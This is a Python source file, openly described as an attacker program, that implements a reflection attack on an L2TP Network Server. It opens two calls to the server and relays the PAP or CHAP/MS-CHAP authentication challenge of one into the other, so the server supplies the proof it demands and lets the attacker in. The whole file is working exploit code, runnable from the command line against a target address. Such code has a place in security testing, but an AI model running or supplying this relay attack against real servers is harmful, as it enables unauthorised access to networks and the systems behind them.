"""An attacker who calls an LNS twice, and has it compute on one call the proof that it asks for on the other. Run as a program:
ADDRESS METHOD; prints what came of it, in one line."""
import socket
import struct
import sys
import time

LCP, PAP, CHAP = 0xC021, 0xC023, 0xC223
OPTIONS = {"pap": bytes.fromhex("0304c023"), "chap": bytes.fromhex("0305c22305"), "mschapv1": bytes.fromhex("0305c22380"),
           "mschapv2": bytes.fromhex("0305c22381")}
PATIENCE = 15.0


def avp(kind: int, value: bytes) -> bytes:
    return struct.pack("!HHH", 0x8000 | (6 + len(value)), 0, kind) + value


class Call:
    """One tunnel with one call, from a port of its own."""

    def __init__(self, address: str, number: int) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.connect((address, 1701))
        self.ns = self.nr = self.tunnel = self.session = 0
        self.frames: list[tuple[int, int, int, bytes]] = []  # protocol, code, id, data
        self.number = number
        reply = self.ask(1, avp(2, b"\1\0") + avp(7, b"attacker%d" % number) + avp(3, struct.pack("!I", 3)) + avp(9, struct.pack("!H", number)), 2)
        self.tunnel = struct.unpack("!H", reply[9])[0]
        self.send(3, b"")
        reply = self.ask(10, avp(14, struct.pack("!H", number)) + avp(15, struct.pack("!I", number)), 11)
        self.session = struct.unpack("!H", reply[14])[0]
        self.send(12, avp(24, struct.pack("!I", 1_000_000)) + avp(19, struct.pack("!I", 1)))

    def header(self, length: int, session: int) -> bytes:
        return struct.pack("!HHHHHH", 0xC802, 12 + length, self.tunnel, session, self.ns, self.nr)

    def send(self, kind: int, avps: bytes) -> None:
        body = avp(0, struct.pack("!H", kind)) + avps
        self.socket.send(self.header(len(body), self.session) + body)
        self.ns += 1

    def ask(self, kind: int, avps: bytes, wanted: int) -> dict[int, bytes]:
        self.send(kind, avps)
        until = time.monotonic() + PATIENCE
        while time.monotonic() < until:
            message = self.receive()
            if message and message.get(0) == struct.pack("!H", wanted):
                return message
        raise SystemExit(f"no answer to message {kind}")

    def receive(self) -> dict[int, bytes] | None:
        """The AVPs of a control message; frames are kept."""
        self.socket.settimeout(0.2)
        try:
            octets = self.socket.recv(65_536)
        except TimeoutError:
            return None
        flags, at = struct.unpack_from("!H", octets)[0], 2
        if flags & 0x4000:
            at += 2
        at += 4  # ids
        if flags & 0x8000:
            ns, at = struct.unpack_from("!H", octets, at)[0], at + 4
            message: dict[int, bytes] = {}
            while at + 6 <= len(octets):
                head, _, kind = struct.unpack_from("!HHH", octets, at)
                message[kind] = octets[at + 6:at + (head & 0x3FF)]
                at += head & 0x3FF
            if message and ns == self.nr:
                self.nr += 1
            if message:
                self.socket.send(self.header(0, 0))
            return message
        at += (4 if flags & 0x0800 else 0) + (2 if flags & 0x0200 else 0)
        frame = octets[at + 2:] if octets[at:at + 2] == b"\xff\x03" else octets[at:]
        if len(frame) >= 6:
            protocol, code, number, length = struct.unpack_from("!HBBH", frame)
            self.frames.append((protocol, code, number, frame[6:2 + length]))
        return None

    def say(self, protocol: int, code: int, number: int, data: bytes) -> None:
        frame = b"\xff\x03" + struct.pack("!HBBH", protocol, code, number, 4 + len(data)) + data
        self.socket.send(struct.pack("!HHH", 0x0002, self.tunnel, self.session) + frame)

    def hear(self, protocol: int, codes: tuple[int, ...], patience: float = PATIENCE) -> tuple[int, int, bytes] | None:
        until = time.monotonic() + patience
        while time.monotonic() < until:
            for index, (spoken, code, number, data) in enumerate(self.frames):
                if spoken == protocol and code in codes:
                    del self.frames[index]
                    return code, number, data
            self.receive()
        return None

    def open_lcp(self, demand: bytes) -> bool:
        """@return whether the LNS agreed to prove itself as demanded"""
        request = self.hear(LCP, (1,))
        if request is None:
            raise SystemExit("the LNS says nothing")
        self.say(LCP, 2, request[1], request[2])
        self.say(LCP, 1, 1, demand)
        answer = self.hear(LCP, (2, 3, 4))
        if answer is not None and answer[0] == 2:
            return True
        self.say(LCP, 1, 2, b"")
        self.hear(LCP, (2,))
        return False


def attack(address: str, method: str) -> str:
    victim, oracle = Call(address, 1), Call(address, 2)
    victim.open_lcp(b"")
    asked = None if method == "pap" else victim.hear(CHAP, (1,))
    if method != "pap" and asked is None:
        return "nothing was asked"
    if not oracle.open_lcp(OPTIONS[method]):
        return "the demand is rejected"
    protocol = PAP if method == "pap" else CHAP
    if asked is not None:
        oracle.say(CHAP, 1, asked[1], asked[2])
    proof = oracle.hear(protocol, (1,) if method == "pap" else (2,), 4.0)
    if proof is None:
        return "no proof"
    victim.say(protocol, 1 if method == "pap" else 2, proof[1], proof[2])
    verdict = victim.hear(protocol, (2, 3) if method == "pap" else (3, 4))
    good = verdict is not None and verdict[0] == (2 if method == "pap" else 3)
    return "let in by a relayed proof" if good else "the relayed proof is refused"


if __name__ == "__main__":
    print(attack(sys.argv[1], sys.argv[2]))
